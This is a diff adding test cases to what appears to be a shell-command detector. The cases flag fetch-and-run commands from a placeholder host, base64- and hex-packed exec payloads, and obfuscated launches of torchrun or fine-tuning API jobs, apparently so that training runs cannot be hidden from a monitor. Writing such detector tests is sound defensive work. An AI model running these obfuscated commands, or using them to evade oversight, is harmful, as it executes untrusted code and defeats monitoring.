@@ -43,6 +43,36 @@ import Testing
     ("S=$(curl -s https://x.org/t.sh)\nbash -c \"$S\"", ["- x ?"]),
     ("S=$(curl -s https://x.org/t.sh)\necho \"$S\" | bash", ["- x ?"]),
     ("curl -s https://x.org/?https://sh.rustup.rs | sh", ["- x ?"]),
+    // Texts that are packed.
+    ("base64 -d blob > /tmp/x\nbash /tmp/x", ["- x ?"]),
+    ("base64 -d blob > x\nchmod +x x\n/tmp/../x; ./x", ["- x ?"]),
+    ("python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"", ["- x ?"]),
+    ("perl -e 'exec pack(\"H*\", \"746f72636872756e\")'", ["- x ?"]),
+    ("python3 -c \"import base64; print(base64.b64decode('YQ=='))\"", []),
+    ("tar xzf tools/pack.tgz -C /tmp\nbash /tmp/pack/run.sh", ["- x ?"]),
+    ("unzip pack.zip\ncd pack\n./run.sh", ["- x ?"]),
+    (
+      "git clone https://x.org/r && cd r\n"
+        + "curl -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3\n"
+        + "./get_helm.sh", []
+    ),
+    (
+      "curl -o train.sh https://astral.sh/uv/install.sh\ngit clone https://x.org/r\nbash r/train.sh",
+      ["- x ?"]
+    ),
+    ("curl -o a.sh https://astral.sh/uv/install.sh\ntar xf curl.tar\nbash curl/a.sh", ["- x ?"]),
+    ("tar xf data.tar -C data\nbash check.sh", []), ("tar czf pack.tgz out\nbash out/a.sh", []),
+    (
+      "curl -o awscliv2.zip https://awscli.amazonaws.com/a.zip\nunzip awscliv2.zip\n"
+        + "./awscliv2/install.sh", []
+    ),
+    ("IFS=, read -ra A <<< 'torchrun,--nproc_per_node,8,train.py'\n\"${A[@]}\"", ["- x ?"]),
+    ("read -ra A <<< 'a b c'\necho \"${A[@]}\"", []),
+    // Requests of services that train.
+    ("curl -X POST https://api.x.org/v1/fine-tunes -d '{\"model\": \"a\"}'", ["- x ?"]),
+    ("curl https://api.x.org/v1/fine_tuning/jobs --data @job.json", ["- x ?"]),
+    ("curl -s https://api.x.org/v1/fine_tuning/jobs/7", []),
+    ("curl -X POST https://api.x.org/v1/chat/completions -d '{}'", []),
     // Objects of a cluster that stand in no file.
     ("kubectl apply -f - <<EOF\n\(job)\nEOF", ["- x ?"]),
     ("cat > /tmp/j.yaml <<EOF\n\(job)\nEOF\nkubectl create -f /tmp/j.yaml", ["- x ?"]),
